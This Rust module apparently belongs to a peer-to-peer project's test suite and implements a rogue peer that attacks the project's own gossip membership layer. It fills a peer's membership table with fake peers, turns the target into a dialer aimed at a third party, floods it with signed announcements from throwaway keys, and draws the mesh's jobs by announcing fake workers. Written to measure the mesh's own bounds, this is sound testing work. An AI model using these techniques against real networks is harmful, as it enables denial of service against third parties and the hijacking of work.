//! The rogue's membership attacks: filling a peer's membership table,
//! turning it into a dialer aimed at a third party, and drawing the mesh's
//! jobs by announcing more workers than anyone runs.
//!
//! Gossip is written by hand on a raw gossipsub stream (`/meshsub/1.1.0`,
//! one varint-framed protobuf RPC per write), so that messages signed by
//! any key can be relayed as if they came from other peers, exactly as an
//! honest relay forwards them. Every message is well-formed and validly
//! signed unless `--junk` says otherwise: a peer cannot score them down,
//! only its membership bounds can stop them.

use std::error::Error;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use disruptor::mesh::record::seal;
use futures::{AsyncReadExt, AsyncWriteExt, StreamExt};
use libp2p::identity::Keypair;
use libp2p::request_response::{self, Message, ProtocolSupport};
use libp2p::swarm::dial_opts::{DialOpts, PeerCondition};
use libp2p::swarm::{NetworkBehaviour, SwarmEvent};
use libp2p::{Multiaddr, PeerId, StreamProtocol, Swarm, identify, noise, ping, tcp, yamux};
use serde::{Deserialize, Serialize};
use tokio::sync::mpsc;

use super::{JOBS, MEMBERS, PROTOCOL_VERSION, TOPIC};

const MESHSUB: StreamProtocol = StreamProtocol::new("/meshsub/1.1.0");
/// Made-up peers in one member-list answer (the target reads at most 1024).
const FAKE_HINTS: usize = 1024;
/// Announcements from throwaway keys relayed per second: 25 times an
/// honest peer's rate. More only measures how fast the target checks
/// signatures (gossipsub checks each before anything else sees it; ~1 ms
/// each in a debug build), not its bounds.
const THROWAWAY_RATE: u64 = 50;
/// How long a throwaway key stays connected before it leaves.
const VISIT: Duration = Duration::from_millis(600);

pub struct Options {
    /// The third party the target is to be turned against.
    members: Option<String>,
    /// The app whose workers are inflated.
    inflate: Option<String>,
    /// Malformed announcements sent before the valid ones.
    junk: u64,
    /// Connections to open to the target, all with this rogue's key.
    connections: u32,
}

impl Options {
    pub fn parse(args: &[String]) -> Result<Options, Box<dyn Error>> {
        let mut o = Options {
            members: None,
            inflate: None,
            junk: 0,
            connections: 1,
        };
        let mut it = args.iter();
        while let Some(flag) = it.next() {
            let value = it.next().ok_or(format!("{flag} needs a value"))?;
            match flag.as_str() {
                "--members" => o.members = Some(value.clone()),
                "--inflate" => o.inflate = Some(value.clone()),
                "--junk" => o.junk = value.parse()?,
                "--connections" => o.connections = value.parse()?,
                other => return Err(format!("unknown flag {other}").into()),
            }
        }
        Ok(o)
    }
}

#[derive(Debug, Clone, Serialize, Deserialize)]
struct MembersRequest {
    v: u32,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
struct MembersResponse {
    peers: Vec<MemberHint>,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
struct MemberHint {
    id: String,
    addrs: Vec<String>,
}

#[derive(NetworkBehaviour)]
struct Member {
    identify: identify::Behaviour,
    ping: ping::Behaviour,
    members: request_response::json::Behaviour<MembersRequest, MembersResponse>,
    stream: libp2p_stream::Behaviour,
}

/// What the attacks did, printed as the rogue's JSON line.
#[derive(Default)]
struct Tally {
    own_announcements: AtomicU64,
    junk_sent: AtomicU64,
    throwaway_announcements: AtomicU64,
    fake_hints: AtomicU64,
    throwaway_connections: AtomicU64,
    jobs_answered: AtomicU64,
    /// Connections to the target still open at the end.
    connections_held: AtomicU64,
}

fn bump(n: &AtomicU64, by: u64) {
    n.fetch_add(by, Ordering::Relaxed);
}

pub async fn run(target: Multiaddr, deadline: Instant, o: Options) -> Result<(), Box<dyn Error>> {
    let key = Keypair::generate_ed25519();
    let local = key.public().to_peer_id();
    let mut swarm = member_swarm(key.clone())?;
    swarm.listen_on("/ip4/127.0.0.1/tcp/0".parse()?)?;
    let control = swarm.behaviour().stream.new_control();
    drain_gossip(control.clone());
    let tally = Arc::new(Tally::default());
    if o.inflate.is_some() {
        tokio::spawn(serve_jobs(control.clone(), tally.clone()));
    }
    swarm.dial(target.clone())?;
    let (target_id, listen) = connect(&mut swarm, deadline).await?;

    let (gossip, rx) = mpsc::channel::<Vec<u8>>(256);
    tokio::spawn(write_gossip(control.clone(), target_id, rx, deadline));
    let me = Own {
        key,
        listen,
        inflate: o.inflate.clone(),
    };
    tokio::spawn(announce_self(
        me,
        o.junk,
        gossip.clone(),
        deadline,
        tally.clone(),
    ));
    let third = o.members.as_deref().map(third_party_addrs).transpose()?;
    if let Some(addrs) = &third {
        tokio::spawn(throwaway_authors(
            addrs.clone(),
            gossip.clone(),
            deadline,
            tally.clone(),
        ));
        tokio::spawn(throwaway_visits(
            target.clone(),
            addrs.clone(),
            deadline,
            tally.clone(),
        ));
    }
    drop(gossip);
    // More connections to the target, on the same key: a peer that opens
    // them all multiplies whatever is bounded per connection.
    for _ in 1..o.connections {
        swarm.dial(
            DialOpts::peer_id(target_id)
                .addresses(vec![target.clone()])
                .condition(PeerCondition::Always)
                .build(),
        )?;
    }
    let mut held = 1u64;
    // Until the deadline, or SIGTERM from a test that has seen enough.
    let mut term = tokio::signal::unix::signal(tokio::signal::unix::SignalKind::terminate())?;
    let end = tokio::time::sleep_until(deadline.into());
    tokio::pin!(end);
    loop {
        tokio::select! {
            _ = &mut end => break,
            _ = term.recv() => break,
            Some(event) = swarm.next() => {
                held = count_connections(held, &event, target_id);
                answer_members(&mut swarm, event, third.as_deref(), &tally);
            }
        }
    }
    // Take in what already happened (a connection the target refused a
    // moment ago) before counting what is still open.
    let settle = Instant::now() + Duration::from_millis(300);
    while let Ok(Some(event)) = tokio::time::timeout(
        settle.saturating_duration_since(Instant::now()),
        swarm.next(),
    )
    .await
    {
        held = count_connections(held, &event, target_id);
    }
    tally.connections_held.store(held, Ordering::Relaxed);
    print_tally(local, &tally);
    Ok(())
}

/// Connections to `target` open after `event`, given `held` before it.
fn count_connections(held: u64, event: &SwarmEvent<MemberEvent>, target: PeerId) -> u64 {
    match event {
        SwarmEvent::ConnectionEstablished { peer_id, .. } if *peer_id == target => held + 1,
        SwarmEvent::ConnectionClosed { peer_id, .. } if *peer_id == target => {
            held.saturating_sub(1)
        }
        _ => held,
    }
}

fn print_tally(local: PeerId, t: &Tally) {
    let n = |c: &AtomicU64| c.load(Ordering::Relaxed);
    println!(
        "{}",
        serde_json::json!({
            "id": local.to_string(),
            "own_announcements": n(&t.own_announcements),
            "junk_sent": n(&t.junk_sent),
            "throwaway_announcements": n(&t.throwaway_announcements),
            "fake_hints": n(&t.fake_hints),
            "throwaway_connections": n(&t.throwaway_connections),
            "jobs_answered": n(&t.jobs_answered),
            "connections_held": n(&t.connections_held),
        })
    );
}

fn member_swarm(key: Keypair) -> Result<Swarm<Member>, Box<dyn Error>> {
    Ok(libp2p::SwarmBuilder::with_existing_identity(key)
        .with_tokio()
        .with_tcp(
            tcp::Config::default(),
            noise::Config::new,
            yamux::Config::default,
        )?
        .with_behaviour(|key| Member {
            identify: identify::Behaviour::new(identify::Config::new(
                PROTOCOL_VERSION.into(),
                key.public(),
            )),
            ping: ping::Behaviour::default(),
            members: request_response::json::Behaviour::new(
                [(MEMBERS, ProtocolSupport::Full)],
                request_response::Config::default(),
            ),
            stream: libp2p_stream::Behaviour::new(),
        })?
        .with_swarm_config(|c| c.with_idle_connection_timeout(Duration::from_secs(3600)))
        .build())
}

/// Polls until connected to the target and listening; returns the
/// target's id and this rogue's listen address.
async fn connect(
    swarm: &mut Swarm<Member>,
    deadline: Instant,
) -> Result<(PeerId, Multiaddr), Box<dyn Error>> {
    let (mut target, mut listen) = (None, None);
    while target.is_none() || listen.is_none() {
        let wait = deadline.saturating_duration_since(Instant::now());
        match tokio::time::timeout(wait, swarm.select_next_some()).await {
            Err(_) => return Err("the target never connected".into()),
            Ok(SwarmEvent::NewListenAddr { address, .. }) => listen = Some(address),
            Ok(SwarmEvent::ConnectionEstablished { peer_id, .. }) => target = Some(peer_id),
            Ok(SwarmEvent::OutgoingConnectionError { error, .. }) => {
                return Err(format!("cannot reach the target: {error}").into());
            }
            Ok(_) => {}
        }
    }
    Ok((target.expect("set"), listen.expect("set")))
}

/// The third party's address and 15 closed local ports: 16 addresses, the
/// most a peer keeps for another.
fn third_party_addrs(host_port: &str) -> Result<Vec<String>, Box<dyn Error>> {
    let (host, port) = host_port
        .rsplit_once(':')
        .ok_or("--members takes HOST:PORT")?;
    let mut addrs = vec![format!("/ip4/{host}/tcp/{port}")];
    addrs.extend((1..16).map(|p| format!("/ip4/127.0.0.1/tcp/{p}")));
    Ok(addrs)
}

/// Answers the target's member-list requests: with made-up peers at the
/// third party's address when attacking membership, else with nobody.
fn answer_members(
    swarm: &mut Swarm<Member>,
    event: SwarmEvent<MemberEvent>,
    third: Option<&[String]>,
    tally: &Tally,
) {
    let SwarmEvent::Behaviour(MemberEvent::Members(request_response::Event::Message {
        message: Message::Request { channel, .. },
        ..
    })) = event
    else {
        return;
    };
    let peers: Vec<MemberHint> = match third {
        Some(addrs) => (0..FAKE_HINTS)
            .map(|_| MemberHint {
                id: PeerId::random().to_string(),
                addrs: addrs.to_vec(),
            })
            .collect(),
        None => Vec::new(),
    };
    bump(&tally.fake_hints, peers.len() as u64);
    let _ = swarm
        .behaviour_mut()
        .members
        .send_response(channel, MembersResponse { peers });
}

/// Takes the target's gossip stream and reads it to nowhere: without a
/// peer that speaks gossipsub on its side, the target would stop taking
/// this rogue's gossip.
fn drain_gossip(mut control: libp2p_stream::Control) {
    let Ok(mut incoming) = control.accept(MESHSUB) else {
        return;
    };
    tokio::spawn(async move {
        while let Some((_, mut s)) = incoming.next().await {
            tokio::spawn(async move {
                let mut buf = vec![0u8; 64 * 1024];
                while matches!(s.read(&mut buf).await, Ok(n) if n > 0) {}
            });
        }
    });
}

/// Writes the RPC frames it is handed on a gossip stream to `target`,
/// opening a new one whenever the target closes it (as gossipsub does).
async fn write_gossip(
    mut control: libp2p_stream::Control,
    target: PeerId,
    mut frames: mpsc::Receiver<Vec<u8>>,
    deadline: Instant,
) {
    while Instant::now() < deadline {
        let Ok(mut stream) = control.open_stream(target, MESHSUB).await else {
            tokio::time::sleep(Duration::from_millis(50)).await;
            continue;
        };
        if stream.write_all(&rpc_frame(true, &[])).await.is_err() {
            continue;
        }
        loop {
            let Some(frame) = frames.recv().await else {
                return;
            };
            if stream.write_all(&frame).await.is_err() || stream.flush().await.is_err() {
                break;
            }
        }
    }
}

/// This rogue as it announces itself.
struct Own {
    key: Keypair,
    listen: Multiaddr,
    inflate: Option<String>,
}

/// `junk` malformed announcements, then a valid one every 500 ms (with
/// 256 live workers of the inflated app, if any).
async fn announce_self(
    me: Own,
    junk: u64,
    gossip: mpsc::Sender<Vec<u8>>,
    deadline: Instant,
    tally: Arc<Tally>,
) {
    for seq in 0..junk {
        // Each one different: gossip names a message by its content.
        let m = gossip_message(format!("{{\"v\":1,\"id\":\"not json after all {seq}").as_bytes());
        if gossip.send(rpc_frame(false, &[m])).await.is_err() {
            return;
        }
        bump(&tally.junk_sent, 1);
    }
    let incarnation = unix_ms();
    let id = me.key.public().to_peer_id().to_string();
    let mut n = 0;
    while Instant::now() < deadline {
        n += 1;
        let apps: Vec<serde_json::Value> = me
            .inflate
            .iter()
            .map(|app| {
                serde_json::json!({"app": app, "state": "running", "workers": 256,
                    "in_flight": 0, "clock": 1})
            })
            .collect();
        let a = serde_json::json!({
            "v": 1, "id": id, "incarnation": incarnation, "seq": n,
            "listen": [me.listen.to_string()], "leaving": false, "apps": apps, "desired": [],
        });
        let record = seal(&me.key, a.to_string().as_bytes()).expect("signs");
        let m = gossip_message(&record);
        if gossip.send(rpc_frame(false, &[m])).await.is_err() {
            return;
        }
        bump(&tally.own_announcements, 1);
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
}

/// An announcement of a throwaway key, at `addrs`.
fn throwaway_announcement(key: &Keypair, addrs: &[String]) -> Vec<u8> {
    let a = serde_json::json!({
        "v": 1, "id": key.public().to_peer_id().to_string(), "incarnation": unix_ms(),
        "seq": 1, "listen": addrs, "leaving": false, "apps": [], "desired": [],
    });
    let record = seal(key, a.to_string().as_bytes()).expect("signs");
    gossip_message(&record)
}

/// Relays announcements of throwaway keys that never connect to anyone,
/// all naming the third party: [`THROWAWAY_RATE`] a second.
async fn throwaway_authors(
    addrs: Vec<String>,
    gossip: mpsc::Sender<Vec<u8>>,
    deadline: Instant,
    tally: Arc<Tally>,
) {
    let batch = THROWAWAY_RATE / 10;
    while Instant::now() < deadline {
        let messages: Vec<Vec<u8>> = (0..batch)
            .map(|_| throwaway_announcement(&Keypair::generate_ed25519(), &addrs))
            .collect();
        if gossip.send(rpc_frame(false, &messages)).await.is_err() {
            return;
        }
        bump(&tally.throwaway_announcements, batch);
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Throwaway keys, one after another, that connect to the target, claim
/// the third party's address (identify and an announcement), answer its
/// member-list request with made-up peers, and leave.
async fn throwaway_visits(
    target: Multiaddr,
    addrs: Vec<String>,
    deadline: Instant,
    tally: Arc<Tally>,
) {
    while Instant::now() < deadline {
        if visit(&target, &addrs, deadline, &tally).await.is_err() {
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }
}

async fn visit(
    target: &Multiaddr,
    addrs: &[String],
    deadline: Instant,
    tally: &Tally,
) -> Result<(), Box<dyn Error>> {
    let key = Keypair::generate_ed25519();
    let mut swarm = member_swarm(key.clone())?;
    swarm.add_external_address(addrs[0].parse()?);
    let control = swarm.behaviour().stream.new_control();
    drain_gossip(control.clone());
    swarm.dial(target.clone())?;
    let until = (Instant::now() + VISIT).min(deadline);
    let mut sent = false;
    while let Ok(Some(event)) = tokio::time::timeout(
        until.saturating_duration_since(Instant::now()),
        swarm.next(),
    )
    .await
    {
        if let SwarmEvent::ConnectionEstablished { peer_id, .. } = &event
            && !sent
        {
            sent = true;
            bump(&tally.throwaway_connections, 1);
            let (tx, rx) = mpsc::channel(1);
            tx.try_send(rpc_frame(
                false,
                &[throwaway_announcement(&key, &addrs[..1])],
            ))?;
            tokio::spawn(write_gossip(control.clone(), *peer_id, rx, until));
        }
        answer_members(&mut swarm, event, Some(addrs), tally);
    }
    Ok(())
}

/// Answers every job on the job streams the mesh opens to this rogue, by
/// echoing its payload (as the echo app would).
async fn serve_jobs(mut control: libp2p_stream::Control, tally: Arc<Tally>) {
    let Ok(mut incoming) = control.accept(JOBS) else {
        return;
    };
    while let Some((_, s)) = incoming.next().await {
        tokio::spawn(echo_jobs(s, tally.clone()));
    }
}

async fn echo_jobs(mut s: libp2p::Stream, tally: Arc<Tally>) {
    use disruptor::network::wire::{decode_request, encode_answer};
    loop {
        let mut len = [0u8; 4];
        if s.read_exact(&mut len).await.is_err() {
            return;
        }
        let mut body = vec![0u8; (u32::from_be_bytes(len) as usize).min(1 << 20)];
        if s.read_exact(&mut body).await.is_err() {
            return;
        }
        let Ok(request) = decode_request(&body) else {
            return;
        };
        let answer = encode_answer(request.id, &Ok(request.payload.to_string()));
        if s.write_all(&answer).await.is_err() || s.flush().await.is_err() {
            return;
        }
        bump(&tally.jobs_answered, 1);
    }
}

fn unix_ms() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| d.as_millis() as u64)
}

// Gossipsub's wire format, by hand: protobuf fields are a varint key
// (field number << 3 | wire type) then, for bytes and nested messages
// (wire type 2), a varint length and the bytes.

fn varint(mut n: u64, out: &mut Vec<u8>) {
    while n >= 0x80 {
        out.push((n as u8) | 0x80);
        n >>= 7;
    }
    out.push(n as u8);
}

fn field(number: u64, bytes: &[u8], out: &mut Vec<u8>) {
    varint(number << 3 | 2, out);
    varint(bytes.len() as u64, out);
    out.extend_from_slice(bytes);
}

/// A gossipsub `Message` on the membership topic as the peers take them:
/// anonymous (data and topic, no author, number or signature: the data is
/// a record its author signs).
fn gossip_message(data: &[u8]) -> Vec<u8> {
    let mut m = Vec::new();
    field(2, data, &mut m);
    field(4, TOPIC.as_bytes(), &mut m);
    m
}

/// One RPC frame (varint length, then the RPC): a subscription to the
/// membership topic if `subscribe`, and `messages` published.
fn rpc_frame(subscribe: bool, messages: &[Vec<u8>]) -> Vec<u8> {
    let mut rpc = Vec::new();
    if subscribe {
        let mut sub = vec![1 << 3, 1]; // subscribe: true (varint field 1)
        field(2, TOPIC.as_bytes(), &mut sub);
        field(1, &sub, &mut rpc);
    }
    for m in messages {
        field(2, m, &mut rpc);
    }
    let mut frame = Vec::with_capacity(rpc.len() + 5);
    varint(rpc.len() as u64, &mut frame);
    frame.extend_from_slice(&rpc);
    frame
}
